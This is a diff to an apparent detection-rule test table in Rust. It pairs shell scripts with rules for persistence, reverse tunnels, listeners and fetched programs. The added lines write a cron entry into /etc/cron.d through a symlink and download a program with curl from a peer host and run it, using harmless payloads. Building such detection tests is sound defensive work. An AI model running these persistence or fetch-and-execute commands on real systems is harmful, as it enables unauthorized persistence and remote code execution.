@@ -54,8 +54,8 @@ close_tunnel"#,
         rule: "network/ssh_reverse_tunnel.yml",
     },
     Deed {
-        what: "adds a line to cron",
-        script: r#"echo '0 0 1 1 * root /bin/true' >> "$CRON""#,
+        what: "adds a line to cron through a symlinked directory",
+        script: r#"ln -s /etc/cron.d "$DEMO/notes"; echo '*/5 * * * * root /bin/true' >> "$DEMO/notes/${CRON##*/}""#,
         rule: "persistence/cron.yml",
     },
     Deed {
@@ -64,9 +64,14 @@ close_tunnel"#,
         rule: "persistence/systemd_unit.yml",
     },
     Deed {
-        what: "leaves a daemon that listens on every address",
+        what: "leaves a daemon that outlives its command and listens on every address",
         script: r#""$TRIGGER" daemon 0.0.0.0:0 60 > "$DEMO/daemon.json""#,
-        rule: "network/listener.yml",
+        rule: "persistence/daemon_reachable.yml",
+    },
+    Deed {
+        what: "downloads a program and runs it",
+        script: r#"curl -sSo "$DEMO/tool" "http://$PEER:8080/tool"; chmod +x "$DEMO/tool"; "$DEMO/tool" nothing"#,
+        rule: "execution/new_program_fetched.yml",
     },
     Deed {
         what: "executes a program from memory",
